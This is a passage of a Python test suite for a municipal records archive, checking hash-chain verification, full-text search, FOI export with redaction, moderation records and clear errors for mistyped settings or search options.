    ChainFile(records / FILES["post"]).append(POSTED)
    chain = chains(records)[kind]
    first = next(chain.events())
    with chain.path.open("a") as handle:  # as the line after it
        handle.write(json.dumps({"time": first["time"], **added}) + "\n")
    before = {path: path.read_bytes() for path in records.rglob("*.jsonl")}
    monkeypatch.setenv("RECORDS_DIR", str(records))
    with pytest.raises(Exit) as stopped:
        call()
    assert stopped.value.code == 2
    assert {path: path.read_bytes() for path in records.rglob("*.jsonl")} == before
    return str(stopped.value.message), chain.path


def test_verify_names_a_line_cut_short_in_the_middle_of_a_character(tmp_path: Path) -> None:
    records = tmp_path / "records"
    _add_comment(records, "c1", "Is Laurel Crescent included?", "2026-11-24T18:00:00+00:00")
    comments = records / FILES["comment"]
    with comments.open("ab") as handle:
        handle.write(b'{"kind": "comment", "text": "Caf\xc3')
    assert chains(records)["comment"].verify() == [
        f"{comments}:2: hash chain broken (line changed or removed before it)"
    ]


@pytest.mark.parametrize("command", ["verify", "export"])
def test_records_commands_name_a_records_dir_that_is_not_there(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: str
) -> None:
    """A RECORDS_DIR that is not there (a typo) is no intact, empty archive: verify would vouch
    for it, and an FOI request would be answered with a package of no records."""
    missing = tmp_path / "recods"
    monkeypatch.setenv("RECORDS_DIR", str(missing))
    monkeypatch.delenv("RECORDS_REMOTE", raising=False)
    with pytest.raises(Exit) as stopped:
        if command == "verify":
            tasks.verify(Context())
        else:
            tasks.export(Context(), "", request="FOI-2026-001", out=str(tmp_path / "package"))
    assert stopped.value.code == 2
    assert "RECORDS_DIR" in str(stopped.value.message)
    assert not (tmp_path / "package").exists()
    assert not missing.exists()


@pytest.mark.parametrize("where", ["archive", "project"])
def test_records_commands_name_a_records_dir_that_holds_no_archive(
    archive: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    where: str,
) -> None:
    """A RECORDS_DIR that is there but holds no archive (its `archive/` folder, where the
    comments are, or the project's own folder) was read as an intact archive of no records:
    verify vouched for it, a search answered "0 record(s)" (and left an index in the project),
    and an FOI request was answered with a package of no records."""
    folder = archive / "archive" if where == "archive" else archive.parent
    monkeypatch.setenv("RECORDS_DIR", str(folder))
    monkeypatch.delenv("RECORDS_REMOTE", raising=False)
    package = archive.parent / "package"
    for command in (
        lambda: tasks.verify(Context()),
        lambda: tasks.search(Context(), ""),
        lambda: tasks.export(Context(), "", request="FOI-2026-001", out=str(package)),
        lambda: tasks.retention(Context(), dry_run=True),
    ):
        with pytest.raises(Exit) as stopped:
            command()
        assert stopped.value.code == 2
        assert f"RECORDS_DIR: no archive at {folder}" in str(stopped.value.message)
    assert "record(s)" not in capsys.readouterr().out
    assert not package.exists() and not (folder / "index.sqlite").exists()


def test_status_does_not_vouch_for_a_mistyped_records_dir(
    site: Site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """`invoke status` only reads the archive: from a RECORDS_DIR that is not there (a typo) it
    reported 0 failed and 0 awaiting review, as of an intact archive of no records."""
    monkeypatch.setattr(tasks, "ROOT", site.root)
    monkeypatch.delenv("RECORDS_REMOTE", raising=False)
    monkeypatch.setenv("RECORDS_DIR", str(tmp_path / "recods"))
    with pytest.raises(Exit) as stopped:
        tasks.status(Context())
    assert stopped.value.code == 2
    assert "status: RECORDS_DIR: no archive at" in str(stopped.value.message)
    assert "Failed syndication" not in capsys.readouterr().out


def test_status_of_a_new_project_says_it_has_no_records_yet_and_lists_the_content(
    site: Site, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Before its first syndicate, a project has no records/ (RECORDS_DIR's default): status
    says so, and still lists what the content holds (scheduled, what the build stops on)."""
    site.add("2099-12-01-a", date="2099-12-01 17:00+00:00")  # scheduled whenever this runs
    site.add("2026-11-20-b", category="no-such-category")
    monkeypatch.setattr(tasks, "ROOT", site.root)
    monkeypatch.delenv("RECORDS_REMOTE", raising=False)
    monkeypatch.delenv("RECORDS_DIR", raising=False)
    tasks.status(Context())
    out = capsys.readouterr().out
    assert out.startswith(f"status: no records yet ({site.root / 'records'} is not there)")
    assert "Scheduled: 1" in out
    assert "Announcements the build stops on (fix these first): 1" in out
    assert not (site.root / "records").exists()  # reading makes nothing


def test_a_records_dir_that_is_a_file_is_refused_naming_the_variable(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    afile = tmp_path / "afile"
    afile.write_text("not an archive\n")
    monkeypatch.setenv("RECORDS_DIR", str(afile))
    for call in (lambda: tasks.verify(Context()), lambda: tasks.search(Context(), "")):
        with pytest.raises(Exit) as stopped:
            call()
        assert (stopped.value.code, stopped.value.message) == (
            2,
            f"RECORDS_DIR: '{afile}' is a file; expected the records folder",
        )


@pytest.mark.parametrize("inside", ["output/records", "output", "content/records"])
def test_a_records_dir_inside_the_site_is_refused_naming_the_variable(
    site: Site, sandboxes: Sandboxes, monkeypatch: pytest.MonkeyPatch, inside: str
) -> None:
    """Inside output/, `invoke deploy` would publish the ledger and every commenter's name,
    and the next build's swap would delete them (the next run then posts everything again);
    inside content/, they would be committed and published with the content."""
    site.add("2026-11-20-flushing")
    site.build()
    monkeypatch.setattr(tasks, "ROOT", site.root)
    monkeypatch.chdir(site.root)
    for name, value in {**sandboxes.env, "RECORDS_DIR": inside}.items():
        monkeypatch.setenv(name, value)
    with pytest.raises(Exit) as stopped:
        tasks.syndicate(Context())
    assert stopped.value.code == 2
    assert str(stopped.value.message).startswith(f"RECORDS_DIR: '{inside}' is inside ")
    assert not (site.root / inside / "syndication").exists()
    assert not sandboxes.facebook.posts  # nothing was posted without its record


def test_the_default_records_dir_is_the_projects_whatever_the_working_directory(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """invoke finds tasks.py from any folder below the project, and every task reads the
    project's output/ and content/: the ledger must be the project's records/ too (from
    theme/, `invoke syndicate` read an empty theme/records/ ledger and posted everything
    again). A relative RECORDS_DIR is the project's too."""
    monkeypatch.delenv("RECORDS_DIR", raising=False)
    monkeypatch.chdir(ROOT / "theme")
    assert tasks._platform_settings().records_dir == ROOT / "records"
    monkeypatch.setenv("RECORDS_DIR", "archive-copy")
    assert tasks._platform_settings().records_dir == ROOT / "archive-copy"


def test_search_finds_what_it_should(archive: Path) -> None:
    assert reindex(archive) > 0
    found = search(archive, "Laurel")
    assert [(r.type, r.author) for r in found] == [
        ("comment", "Avery Lee"),
        ("comment", "Avery Lee"),
    ]
    assert [r.data["version"] for r in found] == [1, 2]  # both versions are kept
    assert {r.type for r in search(archive, "Victoria Street Bridge")} == {"post"}
    assert [r.text for r in search(archive, "", author="Sam Ortiz")] == [
        "Night work is noisy",
        "[deleted by its author]",
    ]
    assert search(archive, "Laurel", platform="twitter") == []
    future = datetime.now(UTC) + timedelta(days=1)
    assert search(archive, "Laurel", since=future) == []
    assert len(search(archive, "Laurel", until=future)) == 2
    assert search(archive, 'quotes " and OR operators') == []  # user words are never FTS syntax


def test_search_by_author_matches_the_text_given_not_wildcards(tmp_path: Path) -> None:
    # X gives @usernames, which may hold "_"; "%" and "_" are wildcards to SQL's LIKE.
    names = ["jordan_park", "jordanXpark", "Avery Lee", "100% Trail", "Émile Roy"]
    for number, author in enumerate(names):
        _add_comment(tmp_path, f"c{number}", "Laurel", f"2026-11-24T18:0{number}:00+00:00", author)

    def authors(part: str) -> list[str]:
        return [r.author for r in search(tmp_path, "", author=part)]

    assert authors("_") == authors("jordan_") == ["jordan_park"]
    assert authors("%") == ["100% Trail"]
    assert authors("\\") == []
    assert authors("JORDAN") == ["jordan_park", "jordanXpark"]  # part of the name, any case
    assert authors("émile  ROY") == ["Émile Roy"]  # as a legal hold compares names


@pytest.mark.parametrize("typed", ["Sam O\u2019Neil", "sam o\u02bcneil", "Sam O'Neil"])
def test_search_by_author_finds_a_name_however_its_apostrophe_and_accents_are_typed(
    tmp_path: Path, typed: str
) -> None:
    # A phone types "’" where a PC types "'"; a Mac may save "é" as e and its accent.
    _add_comment(tmp_path, "c1", "Laurel", "2026-11-24T18:00:00+00:00", "Sam O'Neil")
    _add_comment(tmp_path, "c2", "Laurel", "2026-11-24T18:01:00+00:00", "E\u0301mile Roy")
    assert [r.author for r in search(tmp_path, "", author=typed)] == ["Sam O'Neil"]
    assert [r.author for r in search(tmp_path, "", author="Émile")] == ["E\u0301mile Roy"]


def test_a_search_for_a_commenter_finds_the_moderation_records_about_their_comments(
    archive: Path, tmp_path: Path
) -> None:
    """An FOI request from a commenter for their own personal information: the records
    officer searches their name, and the classification and decisions about their comments
    are theirs too, though a moderation record's author is the reviewer."""
    theirs = [
        ("comment", "What a load of bullshit"),
        ("moderation", "classification: hide (derogatory)"),
        ("moderation", "decision: hide on version 1 (applied): obscene or profane words"),
    ]
    assert [(r.type, r.text) for r in search(archive, "Riley Cole")] == theirs
    assert [(r.type, r.text) for r in search(archive, "", author="riley  cole")] == theirs
    # The reviewer is still found by their own name, and each line says whose comment it is.
    (hide,) = search(archive, "", author="classifier")
    assert hide.summary().endswith(
        "  classifier (policy/moderation.yml) on Riley Cole's comment: decision: hide on version 1"
        " (applied): obscene or profane words  (archive/moderation.jsonl:5)"
    ), hide.summary()
    out = tmp_path / "foi"
    export(archive, ROOT, "FOI-2026-031", ["Riley Cole"], out, redact=True)
    exported = json.loads((out / "records.json").read_text())["records"]
    assert [r["type"] for r in exported if r["commenter"] == "Riley Cole"] == [
        "comment",
        "moderation",
        "moderation",
    ]
    for name in ("records.json", "records.csv", "report.html"):
        assert "Riley Cole" not in (out / "redacted" / name).read_text(), name


def test_a_search_for_an_x_commenters_username_finds_their_records(tmp_path: Path) -> None:
    """On X a commenter is known by their @username, which their display name need not
    resemble: an FOI request from them gives it, and it found only the replies that answer
    them, never their own posts nor the moderation records about them."""
    records = tmp_path / "records"
    x = {"platform": "twitter", "post_id": "p9"}
    _add_comment(records, "t1", "@CityofTrail Laurel floods every spring",
                 "2026-11-24T18:00:00+00:00", "Casey D.", author_id="1700",
                 author_username="caseyd88", **x)  # fmt: skip
    assert [r.comment_id for r in search(records, "caseyd88")] == ["t1"]  # builds the index
    ModerationLog(records).decided(
        "twitter", "t1", "keep", "Reviewer A", "Not a reason under the policy", None, "applied"
    )
    _add_comment(records, "t2", "@caseyd88 @CityofTrail it does", "2026-11-24T18:05:00+00:00",
                 "Avery Lee", author_id="1701", author_username="averylee", parent_id="t1",
                 **x)  # fmt: skip
    theirs = [("comment", "t1"), ("moderation", "t1")]
    assert [(r.type, r.comment_id) for r in search(records, "", author="@CaseyD88")] == theirs
    assert [(r.type, r.comment_id) for r in search(records, "@caseyd88")] == [
        ("comment", "t1"),
        ("comment", "t2"),  # the reply that answers them, by its text
        ("moderation", "t1"),
    ]
    # A username changed on X: the moderation records follow the comment's latest line.
    _add_comment(records, "t1", "@CityofTrail Laurel floods every spring!",
                 "2026-11-24T18:00:00+00:00", "Casey D.", author_id="1700",
                 author_username="casey_d", version=2, **x)  # fmt: skip
    renamed = search(records, "", author="casey_d")
    assert sorted((r.type, r.data.get("version")) for r in renamed) == [
        ("comment", 2),
        ("moderation", None),
    ]
    kept_up = search(records, "")
    reindex(records)
    assert search(records, "") == kept_up  # as an index built whole holds them
    out = tmp_path / "foi"
    export(records, ROOT, "FOI-2026-031", ["@caseyd88"], out, redact=True)
    exported = json.loads((out / "records.json").read_text())["records"]
    assert "moderation" in {r["type"] for r in exported}
    for name in ("records.json", "records.csv", "report.html"):
        severed = (out / "redacted" / name).read_text()
        assert not re.search(r"(?i)caseyd88|casey_d\b", severed), name


def test_a_moderation_record_whose_comment_is_not_in_the_archive_is_filed_as_such(
    tmp_path: Path,
) -> None:
    """A comment's lines disposed of under the retention schedule while the decisions about
    it, kept longer, remain (or never collected): the moderation log does not say which
    announcement it was on, and a blank one would read as a record filed nowhere."""
    records = tmp_path / "records"
    _add_comment(records, "c1", "Laurel floods", "2026-11-24T18:00:00+00:00", "Avery Lee")
    for comment in ("c1", "c9"):
        ModerationLog(records).decided(
            "facebook", comment, "keep", "Reviewer A", "Not a reason under the policy", None,
            "applied",
        )  # fmt: skip
    filed = {r.comment_id: r.announcement for r in search(records, "") if r.type == "moderation"}
    assert filed == {"c1": "2026-11-20-flushing", "c9": "(unknown announcement)"}
    (orphan,) = search(records, "", author="Reviewer A", platform="facebook")[1:]
    assert "facebook  (unknown announcement)  Reviewer A: decision: keep" in orphan.summary()
    out = tmp_path / "foi"
    export(records, ROOT, "FOI-2026-031", ["Reviewer"], out)
    exported = json.loads((out / "records.json").read_text())["records"]
    assert {r["comment_id"]: r["announcement"] for r in exported} == filed
    with (out / "records.csv").open(encoding="utf-8-sig", newline="") as handle:
        assert {r["comment_id"]: r["announcement"] for r in csv.DictReader(handle)} == filed
    report = (out / "report.html").read_text()
    assert "Announcement (unknown announcement)" in report
    assert "facebook comment c9, moderation," in report  # shown, though it has no comment
    # An index an earlier version built, which filed it under a blank announcement.
    with sqlite3.connect(records / "index.sqlite") as db:
        db.execute("UPDATE records SET announcement = '' WHERE comment_id = 'c9'")
        db.execute("PRAGMA user_version = 10")
    db.close()
    assert {r.comment_id: r.announcement for r in search(records, "Reviewer")} == filed
    # Records filed under no known announcement are no thread: one that matches does not
    # bring in the others, which may be about other people's comments.
    ModerationLog(records).decided(
        "facebook", "c8", "keep", "Reviewer B", "Not a reason under the policy", None, "applied"
    )
    asked = tmp_path / "foi-b"
    export(records, ROOT, "FOI-2026-032", ["Reviewer B"], asked)
    exported = json.loads((asked / "records.json").read_text())["records"]
    assert [r["comment_id"] for r in exported] == ["c8"]


def _add_comment(
    records: Path,
    comment_id: str,
    text: str,
    created: str,
    author: str = "Quinn Reyes",
    **fields: object,
) -> None:
    """A comment as `invoke collect` records it (`fields`: author_id, parent_id, by_city...)."""
    ChainFile(records / FILES["comment"]).append(
        {
            "kind": "comment",
            "platform": "facebook",
            "announcement": "2026-11-20-flushing",
            "post_id": "p1",
            "comment_id": comment_id,
            "version": 1,
            "author": author,
            "text": text,
            "created": created,
            **fields,
        }
    )


def _removed(records: Path, comment_id: str, author: str, **fields: object) -> None:
    """A comment gone from the platform, as `invoke collect` records it (`fields`:
    removed_with, the comment it went with)."""
    ChainFile(records / FILES["comment"]).append(
        {
            "kind": "comment_deleted",
            "platform": "facebook",
            "announcement": "2026-11-20-flushing",
            "post_id": "p1",
            "comment_id": comment_id,
            "author": author,
            **fields,
        }
    )


def test_what_the_city_posted_in_a_correction_or_withdrawal_is_found_and_exported(
    site: Site, sandboxes: Sandboxes, tmp_path: Path
) -> None:
    records = site.root / "records"
    video = site.add_video()
    site.add("2026-11-20-flushing", video=video)
    site.syndicate_to(sandboxes)
    site.add("2026-11-20-flushing", video=video, modified="2026-11-22 10:00",
             correction="Flushing moved to Hazelwood Drive on Dec. 2")  # fmt: skip
    site.syndicate_to(sandboxes)  # Facebook's message and the video edited, X told in a reply
    assert "Hazelwood" in next(iter(sandboxes.facebook.posts.values()))["message"]
    everywhere = [("post", "facebook"), ("post", "twitter"), ("post", "youtube")]
    found = search(records, "Hazelwood")
    # Once each: what each platform showed after the correction.
    assert sorted((r.type, r.platform) for r in found) == everywhere
    assert all("Flushing moved to Hazelwood Drive" in r.text for r in found)
    out = tmp_path / "foi"
    export(records, ROOT, "FOI-2026-014", ["flushing"], out)
    exported = json.loads((out / "records.json").read_text())["records"]
    assert sum("Hazelwood" in r["text"] for r in exported) == 3
    report = (out / "report.html").read_text()
    assert report.count("Flushing moved to Hazelwood Drive") == 3
    assert report.count("<h3>Update on ") == 3
    site.add("2026-11-20-flushing", video=video, status="withdrawn",
             withdrawn_reason="Postponed to spring.", modified="2026-11-23 10:00")  # fmt: skip
    site.syndicate_to(sandboxes)
    withdrawals = search(records, "Postponed")
    assert sorted((r.type, r.platform) for r in withdrawals) == everywhere
    (reply,) = search(records, "reply withdrawn")  # X's "Update: …" reply went with its post
    assert reply.platform == "twitter" and reply.data["reply_id"] in reply.text
    policy = tmp_path / "retention.yml"
    policy.write_text("periods_days: {post: 1, comment: 1, moderation: 365}\n")
    due = due_for_disposition(
        records, RetentionPolicy.load(policy), datetime.now(UTC) + timedelta(days=2)
    )
    assert {r.key for r in [*found, *withdrawals]} <= {r.key for r in due}


def test_search_sees_records_added_since_the_index_was_built(archive: Path) -> None:
    assert len(search(archive, "Laurel")) == 2  # builds the index
    _add_comment(archive, "later", "Laurel Crescent again", "2026-11-25T18:00:00+00:00")
    assert "later" in {r.comment_id for r in search(archive, "Laurel")}
    assert len(search(archive, "Laurel")) == 3  # and the index is current, not rebuilt twice


def test_a_search_after_a_run_reads_only_the_records_added_since_the_index_was_built(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The files only ever grow, and every 15-minute run grows them: a search that read, folded
    and inserted every record of a decade again (100,000+ comments, their moderation and the
    ledger) to find what one run added took seconds, growing with the history."""
    from archive import index

    records = tmp_path / "records"
    for n in range(300):
        _add_comment(records, f"c{n}", f"Comment {n} on the flushing", "2026-11-20T18:00:00+00:00")
    assert len(search(records, "flushing")) == 300  # builds the index
    _add_comment(records, "c300", "Comment 300 on the flushing", "2026-11-20T18:00:00+00:00")
    read = []
    record = index._record

    def counted(*args: Any) -> Any:
        read.append(args[3])  # the event
        return record(*args)

    monkeypatch.setattr(index, "_record", counted)
    assert len(search(records, "flushing")) == 301
    assert [event["comment_id"] for event in read] == ["c300"]


def test_an_index_kept_up_to_date_holds_what_one_built_whole_holds(archive: Path) -> None:
    """Each search adds only the lines added since, yet finds what an index built whole from
    the files would: a version recorded twice (two runs joined) counted once, the City's
    answer deleted by an older line that does not say whose it was still the City's, an update
    naming the post by the line before it, and moderation records about a comment whose later
    line says whose it is."""

    def whole() -> list[Any]:
        kept_up = search(archive, "")
        reindex(archive)
        assert search(archive, "") == kept_up
        return kept_up

    whole()
    comments = ChainFile(archive / FILES["comment"])
    first = next(comments.events())
    comments.append({k: v for k, v in first.items() if k not in ("seq", "time", "prev")})
    _add_comment(archive, "answer", "Laurel is on Tuesday.", "2026-11-24T18:01:00+00:00",
                 "City of Trail", by_city=True)  # fmt: skip
    whole()
    _removed(archive, "answer", "City of Trail")  # as written before deletions said whose
    ledger = ChainFile(archive / FILES["post"])
    posted = next(e for e in ledger.events() if e.get("phase") == "done")
    ledger.append({**{k: posted[k] for k in ("announcement", "platform")}, "phase": "done",
                   "action": "update", "text": "Laurel Crescent added"})  # fmt: skip
    decided = next(e for e in ModerationLog(archive).chain.events() if e["kind"] == "decision")
    ModerationLog(archive).chain.append(
        {k: v for k, v in decided.items() if k not in ("seq", "time", "prev")}
    )
    found = whole()
    assert [r.data["by_city"] for r in found if r.comment_id == "answer"] == [True, True]
    (update,) = [r for r in found if r.text == "Laurel Crescent added"]
    assert update.post_id == posted["remote_id"]
    versions = [
        r.data.get("version")
        for r in found
        if (r.type, r.comment_id) == ("comment", first["comment_id"])
    ]
    assert versions.count(first["version"]) == 1
    # A comment's later line names another author (renamed on the platform): the moderation
    # records about it, indexed before, name them too.
    _add_comment(archive, decided["comment_id"], "Edited", "2026-11-25T18:00:00+00:00",
                 "Riley C.", version=9)  # fmt: skip
    found = whole()
    about = [r for r in found if r.type == "moderation" and r.comment_id == decided["comment_id"]]
    assert about and {r.commenter for r in about} == {"Riley C."}


def test_an_index_of_a_file_that_did_not_only_grow_is_built_again(tmp_path: Path) -> None:
    """A file that no longer starts with the lines indexed (cut back, or its lines chained
    anew by `records pull`) is indexed again whole: nothing of what it held before is found."""
    records = tmp_path / "records"
    for n in range(3):
        _add_comment(records, f"c{n}", f"Laurel {n}", "2026-11-20T18:00:00+00:00")
    assert len(search(records, "Laurel")) == 3
    (records / FILES["comment"]).unlink()
    _add_comment(records, "d0", "Laurel again", "2026-11-20T18:00:00+00:00")
    _add_comment(records, "d1", "Laurel once more, and longer", "2026-11-20T18:00:00+00:00")
    assert [r.comment_id for r in search(records, "Laurel")] == ["d0", "d1"]


def test_search_dates_are_city_days_and_include_the_last_one(tmp_path: Path) -> None:
    # 23:30 on Nov. 24 in Trail is 07:30 UTC on Nov. 25; midnight starts at 08:00 UTC.
    _add_comment(tmp_path, "late", "Laurel", "2026-11-25T07:30:00+00:00")
    _add_comment(tmp_path, "next", "Laurel", "2026-11-25T08:00:00+00:00")

    def found(since: str | None = None, until: str | None = None) -> list[str]:
        return [
            r.comment_id
            for r in search(
                tmp_path,
                "Laurel",
                since=date_bound(since) if since else None,
                until=date_bound(until, end=True) if until else None,
            )
        ]

    assert found(until="2026-11-24") == ["late"]
    assert found(since="2026-11-25") == ["next"]
    assert found(since="2026-11-24", until="2026-11-24") == ["late"]
    assert found(until="2026-11-25T00:00") == ["late", "next"]  # a time is City time too
    assert found(until="2026-11-24T23:00") == []
    assert found(since="2026-11-25T07:45:00+00:00") == ["next"]


def test_a_search_time_to_the_minute_includes_that_minute_as_a_date_its_day(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # 15:19:05 in Trail: the search shows it at 15:19, and a search to 15:19 answered "no
    # records", as `--to 15:19` ended at 15:19:00.
    _add_comment(tmp_path, "c1", "Laurel", "2026-11-24T23:19:05+00:00")
    _add_comment(tmp_path, "c2", "Laurel", "2026-11-24T23:20:00+00:00")
    monkeypatch.setenv("RECORDS_DIR", str(tmp_path))
    tasks.search(Context(), "Laurel")
    assert "2026-11-24 15:19 -08:00  comment" in capsys.readouterr().out
    tasks.search(Context(), "Laurel", from_="2026-11-24 15:19", to="2026-11-24 15:19")
    shown = capsys.readouterr().out.splitlines()
    assert shown[-1] == "records search: 1 record(s)." and "(archive/comments.jsonl:1)" in shown[0]
    # An hour given alone is the whole hour; a time to the second ends at that second.
    assert [
        r.comment_id for r in search(tmp_path, "", until=date_bound("2026-11-24T15", end=True))
    ] == ["c1", "c2"]
    assert search(tmp_path, "", until=date_bound("2026-11-24T15:19:04", end=True)) == []
    assert len(search(tmp_path, "", until=date_bound("2026-11-24T23:19Z", end=True))) == 1


def test_a_search_finds_a_word_of_a_script_written_without_spaces_wherever_it_is(
    tmp_path: Path,
) -> None:
    # The full-text index reads "谢谢王小明的问题" as one word: a request about 王小明 must
    # still find the reply that names them, and their own comment.
    _add_comment(tmp_path, "own", "Laurel 的水是棕色的", "2026-11-24T18:00:00+00:00", "王小明")
    _add_comment(tmp_path, "reply", "谢谢王小明的问题", "2026-11-24T19:00:00+00:00")
    _add_comment(tmp_path, "other", "谢谢李华的问题", "2026-11-24T20:00:00+00:00")

    def found(query: str) -> list[str]:
        return [r.comment_id for r in search(tmp_path, query)]

    assert found("王小明") == ["own", "reply"]
    assert found("小明，") == ["own", "reply"]  # part of a name, its punctuation not searched
    assert found("王小明 Laurel") == ["own"]  # every word, as with words of other scripts
    assert found("问题") == ["reply", "other"]
    assert found("张伟") == []
    # A Hangul syllable is matched whole, not by the letters it is written with.
    _add_comment(tmp_path, "ko", "김민수 씨 감사합니다", "2026-11-24T21:00:00+00:00")
    assert found("김민수") == ["ko"]
    assert found("김미") == []


def test_a_search_in_the_hour_the_clocks_repeat_finds_both_of_its_times(tmp_path: Path) -> None:
    # On 2026-11-01 Trail's clocks go back from 02:00 PDT to 01:00 PST: 01:45 happens twice.
    # The search shows each at 01:45 (with its offset), so a search from or to 01:45 typed
    # without an offset takes in both: from the first, to the second (in that hour a search
    # may take in more than its clock times, never less). An offset typed says which.
    _add_comment(tmp_path, "pdt", "Laurel", "2026-11-01T08:45:10+00:00")  # 01:45 -07:00
    _add_comment(tmp_path, "pst", "Laurel", "2026-11-01T09:45:10+00:00")  # 01:45 -08:00
    _add_comment(tmp_path, "later", "Laurel", "2026-11-01T10:00:00+00:00")  # 02:00 -08:00

    def found(since: str, until: str) -> list[str]:
        bounds = date_bound(since), date_bound(until, end=True)
        return [r.comment_id for r in search(tmp_path, "", since=bounds[0], until=bounds[1])]

    assert found("2026-11-01 01:45", "2026-11-01 01:45") == ["pdt", "pst"]
    assert found("2026-11-01 01:45:10-08:00", "2026-11-01 02:00") == ["pst", "later"]


@pytest.mark.parametrize(
    ("option", "value", "problem"),
    [
        # Its last hours in Trail are in the year 10000 in UTC, where the archive keeps times.
        ("to", "9999-12-31", "'9999-12-31' is out of range: times run from the year 1 to 9999"),
        ("from_", "9999-12-31T23:00-12:00", "is out of range"),
        ("from_", "0001-01-01T00:00+01:00", "is out of range"),
        ("to", "24/11/2026", ": '24/11/2026' is not a date or time; expected e.g. 2026-11-24"),
        # Named as given, with what is wrong in it, not Python's "month must be in 1..12" alone.
        (
            "from_",
            "2026-13-01",
            ": '2026-13-01' is not a date or time (month must be in 1..12); expected e.g. "
            "2026-11-24",
        ),
        ("to", "2026-02-30", ": '2026-02-30' is not a date or time (day is out of range"),
    ],
)
def test_a_search_date_that_cannot_be_searched_is_a_clear_error_naming_its_option(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, option: str, value: str, problem: str
) -> None:
    monkeypatch.setenv("RECORDS_DIR", str(tmp_path / "records"))
    with pytest.raises(Exit) as stopped:
        tasks.search(Context(), "", **{option: value})
    assert stopped.value.code == 2
    name = "--" + option.rstrip("_")
    assert str(stopped.value.message).startswith(f"records search: {name}: ")
    assert problem in str(stopped.value.message)


def test_a_search_from_after_its_to_is_a_clear_error_naming_both(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # Typed the wrong way round, the dates bound no time at all: "0 record(s)", falsely.
    monkeypatch.setenv("RECORDS_DIR", str(tmp_path / "records"))
    with pytest.raises(Exit) as stopped:
        tasks.search(Context(), "Laurel", from_="2026-11-25", to="2026-11-24")
    assert (stopped.value.code, stopped.value.message) == (
        2,
        "records search: --from: '2026-11-25' is after --to '2026-11-24'; no record could "
        "match: give the earlier date or time with --from",
    )
    # The same minute is that minute, not a time after itself: it finds the record of 15:19:05.
    _add_comment(tmp_path / "records", "c1", "Laurel", "2026-11-24T23:19:05+00:00")
    tasks.search(Context(), "Laurel", from_="2026-11-24 15:19", to="2026-11-24 15:19")
    assert capsys.readouterr().out == (
        "2026-11-24 15:19 -08:00  comment    facebook  2026-11-20-flushing  Quinn Reyes: Laurel"
        "  (archive/comments.jsonl:1)\nrecords search: 1 record(s).\n"
    )


def test_a_search_platform_is_named_in_any_case_and_an_unknown_one_is_refused(
    archive: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("RECORDS_DIR", str(archive))
    tasks.search(Context(), "", platform="facebook")
    on_facebook = capsys.readouterr().out
    assert " 0 record(s)" not in on_facebook
    tasks.search(Context(), "", platform="Facebook")
    assert capsys.readouterr().out == on_facebook
    on_x = search(archive, "", platform="twitter")  # as the archive names it
    tasks.search(Context(), "", platform="X")  # the platform's name since 2023
    assert capsys.readouterr().out.endswith(f" {len(on_x)} record(s).\n") and on_x
    # A name the archive has no records under would answer "no records", falsely.
    with pytest.raises(Exit) as stopped:
        tasks.search(Context(), "", platform="Instagram")
    assert (stopped.value.code, stopped.value.message) == (
        2,
        "records search: --platform: 'Instagram' is not a platform; expected one of: "
        "facebook, twitter (or x), youtube",
    )


@pytest.mark.parametrize("query", ["-", " -- ", "\u2026", "\U0001f525", "#"])
def test_a_query_of_punctuation_alone_is_a_clear_error_naming_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, query: str
) -> None:
    # The index keeps words (letters and digits): punctuation, symbols and emoji are not in
    # it, so such a query would answer "0 record(s)", falsely, and an FOI package of none.
    records = tmp_path / "records"
    _add_comment(records, "c1", "Laurel - again \U0001f525 #1", "2026-11-24T18:00:00+00:00")
    monkeypatch.setenv("RECORDS_DIR", str(records))
    with pytest.raises(Exit) as stopped:
        tasks.search(Context(), query)
    assert stopped.value.code == 2
    assert str(stopped.value.message).startswith(
        f"records search: QUERY: '{query}' has no letter or digit to search for"
    ), stopped.value.message
    out = tmp_path / "foi"
    with pytest.raises(Exit) as stopped:
        tasks.export(Context(), "Laurel", request="FOI-2026-014", out=str(out), also=[query])
    assert stopped.value.code == 2
    assert str(stopped.value.message).startswith(
        f"records export: --also: '{query}' has no letter or digit to search for"
    ), stopped.value.message
    assert not out.exists()
    # Beside a word, punctuation is no word to match: the word is searched.
    assert [r.comment_id for r in search(records, f"Laurel {query}")] == ["c1"]


@pytest.mark.parametrize(
    "command",
    [
        ["search", "--help"],
        ["search", "-h"],
        ["export", "--help"],
        ["export", "--request", "FOI-2026-014", "--out", "{out}", "--help"],
        ["export", "Laurel", "--request", "FOI-2026-014", "--out", "{out}", "--also", "--help"],
    ],
)
def test_an_option_invoke_took_for_the_query_is_a_clear_error_naming_it(
    tmp_path: Path, command: list[str]
) -> None:
    # invoke gives a command's QUERY whatever follows it that is not one of its options:
    # `--help` searched for "help", and a misspelt option for its words, "0 record(s)".
    records = tmp_path / "records"
    _add_comment(records, "c1", "Can I get help with the platform?", "2026-11-24T18:00:00+00:00")
    out = tmp_path / "foi"
    run = subprocess.run(
        [sys.executable, "-m", "invoke", "records", *(a.format(out=out) for a in command)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
        env={**os.environ, "RECORDS_DIR": str(records)},
    )
    given = "QUERY" if "--also" not in command else "--also"
    option = command[-1]
    assert (run.returncode, run.stdout) == (2, ""), run.stdout + run.stderr
    assert run.stderr.startswith(
        f"records {command[0]}: {given}: '{option}' is no QUERY but an option "
        f"`invoke records {command[0]}` does not have; `invoke --help {command[0]}` "
        "lists its options"
    ), run.stderr
    assert not out.exists()


@pytest.mark.parametrize("author", [" ", "", "\t  "])
def test_a_blank_author_is_a_clear_error_naming_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, author: str
) -> None:
